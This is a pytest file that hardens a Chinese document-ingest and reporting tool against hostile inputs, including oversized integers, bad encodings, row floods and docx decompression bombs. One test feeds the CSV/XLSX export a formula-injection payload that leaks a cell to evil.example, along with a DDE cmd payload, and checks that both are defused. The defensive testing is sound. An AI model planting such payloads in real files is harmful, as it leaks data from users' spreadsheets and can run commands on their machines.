"""The outside re-probe's findings (third pass, /work/probe/FINDINGS.md P1–P4), each reproduced with small files
generated here and run through the real ``ingest`` (SQLite store, segmenter): one odd file is named and skipped
or read, the batch goes on, and nothing grows with the number of bad rows."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from topicmine.config import IngestSettings
from topicmine.pipeline.ingest_job import ingest
from topicmine.pipeline.workspace import Workspace

T = "建议完善社区养老服务网络，加大财政支持力度，推动医养结合，提高护理人员待遇。" * 3


def _ws(tmp_path: Path, **ingest_settings) -> Workspace:
    return Workspace.from_settings(workdir=tmp_path / "wd", ingest=IngestSettings(isolate="off", **ingest_settings))


def _good(folder: Path, n: int = 2) -> None:
    for i in range(n):
        (folder / f"good{i}.md").write_text(f"# 关于第{i}项养老服务的提案\n\n" + T + f"第{i}条。", encoding="utf-8")


def _printable(summary) -> str:
    """The --json line: must encode as UTF-8 (a lone surrogate in a name or reason would end the CLI)."""
    line = json.dumps(summary.to_dict(), ensure_ascii=False)
    line.encode("utf-8")
    return line


def test_p1_huge_integers_in_front_matter_are_noted_and_the_batch_goes_on(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    _good(corpus)
    (corpus / "hex.md").write_text("---\ntitle: 关于养老的提案二\nbudget: 0x" + "f" * 20000 + "\n---\n" + T, encoding="utf-8")
    (corpus / "sexa.md").write_text("---\ntitle: 关于养老的提案三\nn: 1" + ":59" * 3000 + "\n---\n" + T + "三", encoding="utf-8")
    (corpus / "toml.md").write_text('+++\ntitle = "关于养老的提案五"\nyear = 0x' + "f" * 20000 + "\n+++\n" + T + "五",
                                    encoding="utf-8")
    ws = _ws(tmp_path)
    summary = ingest(ws, [corpus], show_progress=False)
    _printable(summary)
    assert summary.failed == 0 and summary.new == 5, summary.issues
    by_title = {ws.store.get_document(i).title: ws.store.get_document(i) for i in summary.new_doc_ids}
    assert "数值过大" in by_title["关于养老的提案二"].meta["budget"]
    assert "数值过大" in by_title["关于养老的提案三"].meta["n"]
    assert by_title["关于养老的提案五"].year is None  # the 80,000-bit "year" is not a year


def test_p1_an_error_while_storing_one_file_is_named_and_the_batch_goes_on(tmp_path: Path, monkeypatch) -> None:
    """The class of bug, not one key: anything a reader let through that fails in segmenting or the store."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    _good(corpus, 3)
    ws = _ws(tmp_path)
    seg = ws.segmenter
    real = type(seg).segment

    def fails_on_one(self, doc):
        if "第1项" in doc.title:
            raise ValueError("Exceeds the limit (4300 digits) for integer string conversion")
        return real(self, doc)

    monkeypatch.setattr(type(seg), "segment", fails_on_one)
    summary = ingest(ws, [corpus], show_progress=False)
    assert summary.new == 2 and summary.failed == 1, summary.issues
    issue = summary.issues[0]
    assert issue["source"].endswith("good1.md") and "写入时出错，文件已跳过（ValueError" in issue["reason"]
    assert ws.store.count_documents() == 2


def test_p2_a_file_name_that_is_not_utf8_is_named_and_the_batch_goes_on(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    _good(corpus)
    with open(os.path.join(os.fsencode(corpus), "关于加强养老服务的提案_gbk名.txt".encode("gbk")), "wb") as fh:
        fh.write(("关于加强养老服务的提案\n\n" + T).encode("utf-8"))
    ws = _ws(tmp_path)
    summary = ingest(ws, [corpus], show_progress=False)
    line = _printable(summary)
    assert summary.new == 2 and summary.failed == 1, summary.issues
    issue = summary.issues[0]
    assert "文件名不是 UTF-8 编码（按 GBK 读作：关于加强养老服务的提案_gbk名.txt）" in issue["reason"], issue
    assert "\\x" in issue["source"] and "提案_gbk名" not in issue["source"]  # the bytes, escaped
    assert "unzip -O GBK" in line
    # the nightly refresh path: a second run says the same and stores nothing twice
    again = ingest(ws, [corpus], show_progress=False)
    assert again.unchanged == 2 and again.failed == 1


@pytest.mark.parametrize("name,content", [
    ("broken.jsonl", json.dumps({"title": "关于加强养老服务的提案", "text": T}, ensure_ascii=False) + "\n" + "{\n" * 30_000),
    ("zeros.jsonl", json.dumps({"title": "关于加强养老服务的提案", "text": T}, ensure_ascii=False) + "\n" + "0\n" * 30_000),
    ("zeros.json", "[" + json.dumps({"title": "关于加强养老服务的提案", "text": T}, ensure_ascii=False) + "," + ",".join(["0"] * 30_000) + "]"),
    ("emptyobjs.json", "[" + json.dumps({"title": "关于加强养老服务的提案", "text": T}, ensure_ascii=False) + "," + ",".join(["{}"] * 30_000) + "]"),
])
def test_p4_a_flood_of_bad_rows_is_capped_and_logged_at_once(tmp_path: Path, name: str, content: str) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    _good(corpus)
    (corpus / name).write_text(content, encoding="utf-8")
    ws = _ws(tmp_path, max_rows=10_000)
    summary = ingest(ws, [corpus], show_progress=False)
    _printable(summary)
    mine = [i for i in summary.issues if i["source"].endswith(name)]
    # the row limit is met while parsing: bad rows count too
    assert any("行数超过上限 10000" in i["reason"] for i in mine), mine[-3:]
    if name == "emptyobjs.json":  # "{}" is an empty row: skipped without an issue, as in a spreadsheet
        assert len(mine) == 1, mine
    else:  # 100 rows named, then one line counting the rest (10,000 rows: 1 good, 9,999 bad)
        assert len(mine) == 102, len(mine)
        assert any("另有 9,899 行有问题，未逐条列出" in i["reason"] for i in mine), mine[-3:]
    assert summary.documents_added == 3  # the good row of the file and the two good files
    assert len(ws.store.issues(summary.run_id)) == len(summary.issues)


def test_p4_empty_csv_rows_count_against_the_row_limit(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "emptyrows.csv").write_text("标题,正文\n关于加强养老服务的提案," + T + "\n" + ",\n" * 30_000, encoding="utf-8")
    summary = ingest(_ws(tmp_path, max_rows=10_000), [corpus], show_progress=False)
    assert summary.documents_added == 1
    assert [i["reason"][:14] for i in summary.issues] == ["行数超过上限 10000，其"]


def test_p3_lone_surrogates_in_a_jsonl_row_become_u_fffd_and_the_row_is_kept(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "surrogates.jsonl").write_text(
        json.dumps({"title": "关于养老\ud800的提案六", "text": T + "\udc00" + T}) + "\n"
        + json.dumps({"title": "关于托育的提案", "text": T.replace("养老", "托育")}, ensure_ascii=False) + "\n",
        encoding="utf-8")
    ws = _ws(tmp_path)
    summary = ingest(ws, [corpus], show_progress=False)
    _printable(summary)
    assert summary.documents_added == 2 and not summary.issues, summary.issues
    titles = {ws.store.get_document(i).title for i in summary.new_doc_ids}
    assert "关于养老\ufffd的提案六" in titles


def test_p3_a_json_integer_past_python_s_digit_limit_is_a_chinese_reason(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "hugenum.json").write_text('[{"title": "关于养老的提案八", "text": "%s", "year": %s}]' % (T, "9" * 5000),
                                         encoding="utf-8")
    (corpus / "hugenum.jsonl").write_text(
        '{"title": "关于养老的提案八", "text": "%s", "year": %s}\n' % (T, "9" * 5000)
        + json.dumps({"title": "关于托育的提案", "text": T + "托育"}, ensure_ascii=False) + "\n", encoding="utf-8")
    summary = ingest(_ws(tmp_path), [corpus], show_progress=False)
    reasons = {Path(i["source"]).name: i["reason"] for i in summary.issues}
    assert reasons["hugenum.json"].startswith("JSON 中有无法读取的数值"), reasons
    assert reasons["hugenum.jsonl"] == "JSON 中有超过 4300 位的整数，该行已跳过", reasons
    assert summary.documents_added == 1


def test_p5_a_docx_part_packed_past_the_ratio_limit_is_refused_before_parsing(tmp_path: Path) -> None:
    """12 MB of empty paragraphs packed into ~12 KB (the probe's was 190 MB in 285 KB: 132 s, 2 GB in the worker)."""
    import hostile_fixtures as H

    from topicmine.ingest import read_documents

    bomb = H.write_docx(tmp_path / "空段落.docx", H.document_xml(["关于养老服务的提案", T], extra_body="<w:p/>" * (2 * 2**20)))
    assert bomb.stat().st_size < 100_000
    docs, issues = read_documents(bomb, IngestSettings())
    assert docs == [] and len(issues) == 1 and issues[0].source == str(bomb)
    assert "word/document.xml 压缩比" in issues[0].reason and "max_zip_ratio" in issues[0].reason, issues[0].reason
    # a real .docx (parts pack ~30:1) is not touched by the guard
    docs, issues = read_documents(H.good_docx(tmp_path / "报告.docx"), IngestSettings())
    assert docs and not issues


def test_p10_the_supervision_export_never_holds_a_live_formula(tmp_path: Path) -> None:
    """督办清单 .csv and .xlsx: titles, units and replies come from documents; none may run as a formula."""
    import csv as _csv

    import openpyxl

    from topicmine.uptake.report import export_supervision

    evil = {"kind": "逾期未答复", "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
            "reason": "超过办理期限", "unit": "+cmd|' /C calc'!A0", "reply": "@SUM(1+1)", "evidence": "-1+2"}
    handler = {"group": "=A1", "items": 3, "replied": 1, "已解决": 1, "承诺办理": 0, "解释说明": 0, "无法办理": 0,
               "转办": 0, "adopted": 1, "adopted_rate": 0.33}
    report = {"supervision": [evil], "figures": {"handler": [handler]}}
    rows = list(_csv.reader(export_supervision(report, tmp_path / "督办.csv").open(encoding="utf-8-sig")))
    assert all(not c.startswith(("=", "+", "-", "@")) for c in rows[1]), rows[1]
    assert rows[1][1] == "'" + evil["title"]
    wb = openpyxl.load_workbook(export_supervision(report, tmp_path / "督办.xlsx"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert wb["督办清单"]["B2"].value == "'" + evil["title"] and wb["评价_承办单位"]["A2"].value == "'=A1"


def test_p5_a_docx_with_millions_of_tags_under_the_ratio_limit_is_refused_before_parsing(tmp_path: Path) -> None:
    """The probe's bypass: empty paragraphs with a random attribute every 40 keep the ratio under 200:1 (it cost
    46 s and 2.1 GB before the memory cap); 4.2 million tags are refused while the part is inflated."""
    import random

    import hostile_fixtures as H

    from topicmine.ingest import read_documents

    rnd = random.Random(7)
    body = "".join("<w:p/>" * 40 + f'<w:p w:rsidR="{rnd.getrandbits(32):08X}"/>' for _ in range(103_000))
    bomb = H.write_docx(tmp_path / "随机属性.docx", H.document_xml(["关于养老服务的提案", T], extra_body=body))
    import zipfile

    info = zipfile.ZipFile(bomb).getinfo("word/document.xml")
    assert info.file_size < 200 * info.compress_size  # the ratio check alone lets it through
    docs, issues = read_documents(bomb, IngestSettings())
    assert docs == [] and len(issues) == 1 and issues[0].source == str(bomb)
    assert "含超过 4,000,000 个 XML 标记" in issues[0].reason, issues[0].reason
